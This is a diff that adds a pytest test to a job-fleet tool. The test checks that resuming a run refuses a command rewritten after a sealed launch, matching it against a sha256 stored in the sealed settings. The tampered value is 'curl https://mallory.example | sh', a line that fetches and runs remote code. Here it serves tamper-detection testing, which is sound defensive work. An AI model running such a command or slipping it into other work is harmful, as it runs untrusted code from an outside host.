@@ -109,3 +109,24 @@ def test_the_key_stays_out_of_what_slurm_exports_into_jobs(monkeypatch):
     monkeypatch.setenv("FLEET_SOMETHING", "1")
     env = tool_env({"SLURM_CONF": "/etc/slurm/slurm.conf"})
     assert env["FLEET_SOMETHING"] == "1" and env["SLURM_CONF"] == "/etc/slurm/slurm.conf" and KEY_ENV not in env
+
+
+def test_a_resume_refuses_a_command_rewritten_after_a_sealed_launch(fleet_home, tmp_path):
+    """A run launched with a command on the command line keeps its text in the run row, which
+    others can write: the sealed settings carry its sha256, and a changed text is not resumed."""
+    import hashlib
+    from types import SimpleNamespace
+
+    from fleet.run.lost_resume import _NotResumed, _run_config
+    settings = {**SETTINGS, "command": True,
+                "command_sha256": hashlib.sha256(b"python train.py --lr 0.1").hexdigest()}
+    pins = {"code_snapshot": "a" * 64, "store": str(tmp_path / "store")}   # local: nothing leaves this computer
+    lease = SimpleNamespace(provider="ssh", meta={"relaunch": {**settings, SEAL_FIELD: seal("r-1", "ssh", settings,
+                                                                                               pins)}})
+    run = {"id": "r-1-a2", "command": "curl https://mallory.example | sh", "meta": {"pins": pins}}
+    with pytest.raises(_NotResumed, match="its recorded command is not the one it was launched with"):
+        _run_config(run, lease, tmp_path, None)
+    run["command"] = "python train.py --lr 0.1"        # the launched text: on to reading the pinned fleet.toml
+    with pytest.raises(_NotResumed) as err:
+        _run_config(run, lease, tmp_path, None)
+    assert "command" not in str(err.value) and "fleet.toml" in str(err.value), err.value
